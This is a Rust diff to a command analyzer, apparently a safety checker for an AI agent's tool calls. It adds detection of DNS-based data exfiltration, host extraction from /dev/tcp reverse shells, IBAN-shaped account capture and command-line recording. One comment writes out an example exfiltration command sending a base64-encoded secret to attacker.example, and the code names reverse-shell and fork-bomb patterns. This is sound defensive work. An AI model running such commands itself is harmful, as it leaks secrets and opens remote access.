@@ -875,7 +875,7 @@ impl<'a> Analyzer<'a> {
             self.email(e);
         }
         if ACCOUNT_KEYS.contains(&k) {
-            if let Some(a) = as_account(t) {
+            if let Some(a) = as_account(t).or_else(|| crate::text::iban_shaped(t)) {
                 self.f.targets.accounts.insert(a);
                 *recipient_like = true;
             }
@@ -932,6 +932,11 @@ impl<'a> Analyzer<'a> {
                 };
                 let script = shell::parse(&cmd);
                 self.shell(&script, &cmd);
+                let line = cmd.split_whitespace().collect::<Vec<_>>().join(" ");
+                let line = line.trim_end_matches(['&', ';', ' ']);
+                if !line.is_empty() && line.len() <= 4096 {
+                    self.f.command_line = Some(line.to_owned());
+                }
             }
             KnownTool::Read => {
                 self.set_effect(Effect::Read, name);
@@ -1114,6 +1119,18 @@ impl<'a> Analyzer<'a> {
             self.f
                 .flag(Flag::RemoteCode, "opens a reverse shell over /dev/tcp");
             self.f.flag(Flag::Egress, "connects out over /dev/tcp");
+            for marker in ["/dev/tcp/", "/dev/udp/"] {
+                for (i, _) in lower_raw.match_indices(marker).take(4) {
+                    let rest = &lower_raw[i + marker.len()..];
+                    let host: String = rest
+                        .chars()
+                        .take_while(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':'))
+                        .collect();
+                    if host.len() >= 3 && self.f.targets.hosts.len() < 64 {
+                        self.f.targets.hosts.insert(host);
+                    }
+                }
+            }
         }
         if fork_bomb(raw) {
             self.f.flag(Flag::DangerousCommand, "fork bomb");
@@ -1333,6 +1350,22 @@ impl<'a> Analyzer<'a> {
         if self.f.targets.commands.len() < 64 {
             self.f.targets.commands.insert(prog.clone());
         }
+        // a DNS lookup of a name built from command output sends that output to the name's
+        // authoritative server (`dig $(cat secret | base64).attacker.example`)
+        if matches!(prog.as_str(), "dig" | "nslookup" | "host" | "drill" | "ping") {
+            for a in args {
+                if let Some(cut) = a.rfind([')', '`']).filter(|_| a.contains("$(") || a.contains('`')) {
+                    self.f.flag(
+                        Flag::Egress,
+                        "DNS lookup of a name built from command output",
+                    );
+                    let suffix = a[cut + 1..].trim_start_matches('.');
+                    if let Some(d) = as_domain(suffix) {
+                        self.f.targets.hosts.insert(d);
+                    }
+                }
+            }
+        }
         self.env_and_redirects(c);
         // `sudo -n true`: a check whether a password is needed, which runs nothing
         let no_op = matches!(prog.as_str(), "true" | ":") && args.is_empty();
@@ -1505,12 +1538,21 @@ impl<'a> Analyzer<'a> {
                     && args.iter().all(|a| {
                         matches!(
                             a.as_str(),
-                            "-l" | "-ll" | "--list" | "-k" | "-K" | "--reset-timestamp"
-                                | "--remove-timestamp" | "-V" | "--version" | "-n"
+                            "-l" | "-ll"
+                                | "--list"
+                                | "-k"
+                                | "-K"
+                                | "--reset-timestamp"
+                                | "--remove-timestamp"
+                                | "-V"
+                                | "--version"
+                                | "-n"
                                 | "--non-interactive"
                         )
                     })
-                    && !args.iter().all(|a| matches!(a.as_str(), "-n" | "--non-interactive")) =>
+                    && !args
+                        .iter()
+                        .all(|a| matches!(a.as_str(), "-n" | "--non-interactive")) =>
             {
                 Effect::Read
             }
